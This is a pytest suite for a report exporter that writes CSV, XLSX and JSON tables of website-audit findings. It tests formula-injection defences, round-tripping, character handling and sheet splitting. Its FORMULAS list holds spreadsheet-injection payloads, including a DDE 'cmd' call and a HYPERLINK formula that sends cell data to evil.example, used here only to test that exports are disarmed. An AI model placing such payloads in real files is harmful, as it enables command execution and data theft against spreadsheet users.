"""Tables leave the program whole, as text that nobody's spreadsheet executes."""

import csv
import gc
import io
import json
import re
import zipfile
from collections.abc import Callable, Iterator, Sequence
from datetime import date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from checker.core.fact import CHINA
from checker.extract.ledgers.rows import read_sites
from checker.extract.ledgers.sheet import kind_of, sheet
from checker.extract.ledgers.text import armed, disarmed
from checker.report.csv_file import write_csv
from checker.report.json_file import write_json, write_jsonl
from checker.report.spreadsheet import CELL_UNITS, CUT_MARK, write_xlsx
from checker.report.tables import Cell, Column, Lang, Table, printable

COLUMNS = (
    Column("code", "网站标识码", "site code", "code"),
    Column("name", "网站名称", "site name", "name"),
    Column("url", "首页网址", "home page", "url"),
    Column("says", "情况说明", "what was found", "sentence"),
    Column("count", "数量", "count", "number"),
)
ROW: tuple[Cell, ...] = ("0108000001", "清河县", "http://www.qinghe.gov.cn/", "空白栏目 6 个", 6)

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "　=1",
    "\u00a0=1",
    "\ufeff=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1",
    "''=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "\n=1",
]


def table(*rows: tuple[Cell, ...], columns: tuple[Column, ...] = COLUMNS) -> Table:
    return Table("failing", "不合格名单", columns, iter(rows))


def as_csv(made: Table, lang: Lang = "zh") -> bytes:
    stream = io.BytesIO()
    write_csv(made, stream, lang)
    assert not stream.closed
    return stream.getvalue()


def as_xlsx(*made: Table, lang: Lang = "zh", rows_per_sheet: int = 1000) -> bytes:
    stream = io.BytesIO()
    write_xlsx(made, stream, lang, rows_per_sheet=rows_per_sheet)
    assert not stream.closed
    return stream.getvalue()


def with_name(name: str) -> tuple[Cell, ...]:
    return (ROW[0], name, *ROW[2:])


def cells_of(data: bytes, tab: int = 0) -> list[tuple[object, ...]]:
    book = load_workbook(io.BytesIO(data))
    return [tuple(row) for row in book.worksheets[tab].iter_rows(values_only=True)]


def sheet_names(data: bytes) -> Sequence[str]:
    return load_workbook(io.BytesIO(data)).sheetnames


# --- formula injection ---------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_csv_begins_like_a_formula(text: str) -> None:
    data = as_csv(table(with_name(text)))
    (_, row) = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert row[1] == "'" + text


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(text: str) -> None:
    data = as_xlsx(table(with_name(text), (*ROW[:3], text, 1)))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in xml
        assert b"<hyperlink" not in xml
        assert not [name for name in archive.namelist() if "externalLink" in name]
    assert all(
        cell.data_type != "f"
        for row in load_workbook(io.BytesIO(data)).worksheets[0]
        for cell in row
    )


def test_a_header_is_disarmed_too() -> None:
    made = table(columns=(Column("a", "=1", "=1"),))
    assert as_csv(made) == "\ufeff'=1\r\n".encode()


def test_numbers_of_a_csv_stay_numbers_below_zero_too() -> None:
    assert as_csv(table((*ROW[:4], -1.5))).endswith(b",-1.5\r\n")


@given(st.text())
def test_a_disarmed_text_is_harmless_and_armed_again_is_what_it_was(text: str) -> None:
    assert armed(disarmed(text)) == text
    assert not re.match(r"[\s\x00-\x20\u200b\ufeff]*[=+\-@＝＋－＠]", disarmed(text))


# --- what comes out goes in again ----------------------------------------------------------


@pytest.mark.parametrize("write", [as_csv, as_xlsx])
@pytest.mark.parametrize("name", ["清河县", "=清河", "'=清河", "'清河", 'a,b;"c"', "_x0041_", "-"])
def test_an_export_is_imported_again_with_the_same_values(
    write: Callable[[Table], bytes], name: str
) -> None:
    read = sheet(write(table(with_name(name))), "failing")
    (site,) = read_sites(read).rows
    assert kind_of(read) == "sites"
    assert (site.code, site.name, site.url) == ("0108000001", name, ROW[2])
    assert site.notes == (("情况说明", ROW[3]), ("数量", "6"))


def test_codes_keep_their_leading_zeros_and_numbers_are_numbers() -> None:
    assert cells_of(as_xlsx(table(ROW)))[1] == ROW


def test_the_header_stands_in_the_first_row_in_the_wanted_language() -> None:
    assert cells_of(as_xlsx(table(ROW)))[0] == tuple(column.zh for column in COLUMNS)
    assert cells_of(as_xlsx(table(ROW), lang="en"))[0] == tuple(column.en for column in COLUMNS)
    assert (
        as_csv(table(), "en")
        == b"\xef\xbb\xbfsite code,site name,home page,what was found,count\r\n"
    )


def test_a_sheet_has_a_frozen_header_filters_and_room_for_its_words() -> None:
    tab = load_workbook(io.BytesIO(as_xlsx(table(ROW, ROW)))).worksheets[0]
    assert tab.freeze_panes == "A2"
    assert tab.auto_filter.ref == "A1:E3"
    assert tab.column_dimensions["D"].width > 55
    assert tab["D2"].alignment.wrap_text
    assert tab["A2"].number_format == "@"


def test_dates_moments_and_answers_are_read_by_people() -> None:
    columns = tuple(Column(key, key, key) for key in "abcd")
    row = (date(2026, 3, 1), datetime(2026, 3, 1, 8, 30, tzinfo=CHINA), True, None)
    made = as_csv(table(row, columns=columns)).decode("utf-8-sig")
    assert made.splitlines()[1] == "2026-03-01,2026-03-01 08:30:00+08:00,是,"
    assert cells_of(as_xlsx(table(row, columns=columns), lang="en"))[1][2:] == ("yes", None)


# --- what a file cannot hold ---------------------------------------------------------------


@pytest.mark.parametrize("bad", ["\0", "\x0b", "\x1f", "\x85", "\ud800", "\ufffe", "\uffff"])
def test_characters_that_no_file_can_carry_are_left_out(bad: str) -> None:
    row = with_name(f"清{bad}河")
    assert cells_of(as_xlsx(table(row)))[1][1] == "清河"
    assert "清河" in as_csv(table(row)).decode()
    stream = io.BytesIO()
    write_jsonl(table(row), stream)
    assert json.loads(stream.getvalue())["name"] == "清河"


@given(st.text(st.characters(), max_size=50))
def test_any_text_comes_back_from_a_workbook(text: str) -> None:
    read = sheet(as_xlsx(table(ROW, (*ROW[:3], "x" + text, 1))), "a")
    kept = ("x" + printable(text)).replace("\r\n", "\n").replace("\r", "\n")
    assert read.rows[1].cells[3].replace("\r\n", "\n").replace("\r", "\n") == kept


@pytest.mark.parametrize("letter", ["a", "清", "𠮷"])
def test_a_text_too_long_for_a_cell_is_cut_with_a_mark(letter: str) -> None:
    long, whole = letter * (CELL_UNITS + 1), "a" * CELL_UNITS
    cut, kept = (
        cells[3]
        for cells in cells_of(as_xlsx(table((*ROW[:3], long, 1), (*ROW[:3], whole, 1))))[1:]
    )
    assert isinstance(cut, str)
    assert cut.endswith(letter + CUT_MARK["zh"])
    assert CELL_UNITS - 1 <= len(cut.encode("utf-16-le")) // 2 <= CELL_UNITS
    assert kept == whole


@pytest.mark.parametrize(("count", "sizes"), [(0, [0]), (3, [3]), (4, [3, 1]), (7, [3, 3, 1])])
def test_more_rows_than_a_sheet_holds_go_on_in_further_sheets(
    count: int, sizes: Sequence[int]
) -> None:
    data = as_xlsx(table(*[ROW] * count), rows_per_sheet=3)
    names = ["不合格名单", "不合格名单 (2)", "不合格名单 (3)"][: len(sizes)]
    assert sheet_names(data) == names
    for tab, size in enumerate(sizes):
        rows = cells_of(data, tab)
        assert rows[0][0] == "网站标识码"
        assert len(rows) == size + 1


@pytest.mark.parametrize(
    ("titles", "names"),
    [
        (["长" * 40, "长" * 40], ["长" * 31, "长" * 27 + " (2)"]),
        (["a/b:c*d?[e]\\f"], ["a b c d  e  f"]),
        (["'引'", "", "History"], ["引", "表", "History (2)"]),
        (["Sites", "SITES"], ["Sites", "SITES (2)"]),
    ],
)
def test_any_title_becomes_a_sheet_name_that_programs_allow(
    titles: Sequence[str], names: Sequence[str]
) -> None:
    made = [Table("t", title, COLUMNS, []) for title in titles]
    assert sheet_names(as_xlsx(*made)) == names


def test_no_tables_at_all_still_make_a_workbook() -> None:
    assert len(sheet_names(as_xlsx())) == 1


def test_huge_and_endless_numbers_are_written_as_text() -> None:
    columns = tuple(Column(key, key, key, "number") for key in "abc")
    row = (12345678901234567890, float("inf"), 0.5)
    assert cells_of(as_xlsx(table(row, columns=columns)))[1] == ("12345678901234567890", "inf", 0.5)


# --- json ----------------------------------------------------------------------------------


@pytest.mark.parametrize("count", [0, 1, 3])
def test_json_is_one_array_and_json_lines_one_object_a_line(count: int) -> None:
    whole, lines = io.BytesIO(), io.BytesIO()
    write_json(table(*[ROW] * count), whole)
    write_jsonl(table(*[ROW] * count), lines)
    expected = [dict(zip([column.key for column in COLUMNS], ROW, strict=True))] * count
    assert json.loads(whole.getvalue()) == expected
    assert [json.loads(line) for line in lines.getvalue().splitlines()] == expected


def test_json_keeps_moments_in_iso_and_has_no_word_for_infinity() -> None:
    columns = tuple(Column(key, key, key) for key in "abc")
    row = (datetime(2026, 3, 1, 8, 30, tzinfo=CHINA), float("nan"), False)
    stream = io.BytesIO()
    write_jsonl(table(row, columns=columns), stream)
    assert json.loads(stream.getvalue()) == {
        "a": "2026-03-01T08:30:00+08:00",
        "b": None,
        "c": False,
    }


# --- rows ----------------------------------------------------------------------------------


def test_rows_are_asked_for_one_by_one_and_written_before_the_next() -> None:
    alive: list[int] = []

    class Watched(str):
        def __del__(self) -> None:
            alive.remove(1)

    def rows() -> Iterator[tuple[Cell, ...]]:
        for n in range(50):
            assert len(alive) <= 2
            text = Watched(f"清河{n}")
            alive.append(1)
            yield (text,)

    made = Table("t", "表", (Column("a", "列", "column"),), rows())
    write_csv(made, io.BytesIO())
    made = Table("t", "表", (Column("a", "列", "column"),), rows())
    write_xlsx([made], io.BytesIO())


def test_a_row_of_the_wrong_width_is_an_error_and_leaves_nothing_behind() -> None:
    for stream in (io.BytesIO(), io.BytesIO()):
        with pytest.raises(ValueError, match="a row of 1 cells in 5 columns"):
            write_xlsx([table(ROW, ("alone",))], stream)
        assert not stream.getvalue()
    gc.collect()
